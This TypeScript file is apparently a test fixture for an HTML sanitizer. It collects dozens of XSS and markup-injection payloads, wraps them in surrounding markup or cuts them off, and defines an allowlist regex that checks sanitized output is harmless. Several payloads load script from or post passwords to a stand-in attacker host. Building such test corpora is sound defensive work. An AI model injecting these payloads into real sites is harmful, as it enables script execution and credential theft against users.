import { addresses } from './hostile/addresses';
import { handlers } from './hostile/handlers';
import { markup } from './hostile/markup';
import { codes, formulas, unseen } from './hostile/texts';

const BASE = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img srcset="https://evil.example/x 2x" src=https://evil.example/p.gif>',
  '<img src=javascript:alert(1)>',
  '<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="http://plain.example">x</a>',
  '<a href="https://user:pass@evil.example">x</a>',
  '<a href="https://localhost/x">x</a>',
  '<a href="/admin/graphql">x</a>',
  '<a href="/api/login/logout">x</a>',
  '<a href="/pages/nowhere/else">x</a>',
  '<a href="/pages/user/cash?money=1&pwd=2#x">x</a>',
  '<a href="mailto:a@b.example?body=secret">x</a>',
  '<a href="https://a.example" target=_blank onclick=alert(1) style="position:fixed;inset:0">x</a>',
  '<a href="https://a.example" ping="https://evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p onclick=alert(1) onpointerover=alert(1)>x</p>',
  '<p id=root name=user class=admin data-x=1 aria-label=y>x</p>',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<table><td background="javascript:alert(1)">x</td></table>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<body onload=alert(1)>',
  '<custom-element onclick=alert(1) is=x>x</custom-element>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p>\u202egnp.exe</p><script\u0000>alert(1)</script>',
  '"><script>alert(1)</script>',
  `'"--></style></script><script>alert(1)</script>`,
  '{{constructor.constructor("alert(1)")()}}<script>alert(1)</script>',
] as const;

/** Around what people write, inside other tags, and cut off. */
const WAYS: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<p>Hello <strong>${html}</strong></p><ul><li>${html}</li></ul>`,
  (html) => `<blockquote>${html.slice(0, -1)}`,
];

/** Each once: HTML and texts that want a browser, a spreadsheet or another program to do something. */
export const hostileItems: readonly string[] = [
  ...new Set([...BASE, ...handlers, ...addresses, ...markup, ...formulas, ...unseen, ...codes]),
];

/** The same as HTML, the first of them in other ways besides. */
export const hostileHtml: readonly string[] = [
  ...new Set([...WAYS.flatMap((way) => BASE.map(way)), ...hostileItems]),
];

const HASH = '[0-9a-f]{64}';
const SAFE_TAG = new RegExp(
  [
    String.raw`</?(?:p|h2|h3|strong|em|ul|ol|li|blockquote)>|<br>|<a>|</a>`,
    String.raw`<a href="(?:https://[^"<>\s]+|mailto:[^"<>\s?]+|/(?:pages/[^"<>\s]*)?)">`,
    String.raw`<img(?: (?:src="/files/c/${HASH}\.webp"|alt="[^"<>]*"))*>`,
  ].join('|'),
  'g',
);

/** Whether HTML holds nothing but our own tags, in the form in which they are written back: nothing of it can run. */
export const isHarmless = (html: string): boolean => !/[<>]/.test(html.replace(SAFE_TAG, ''));
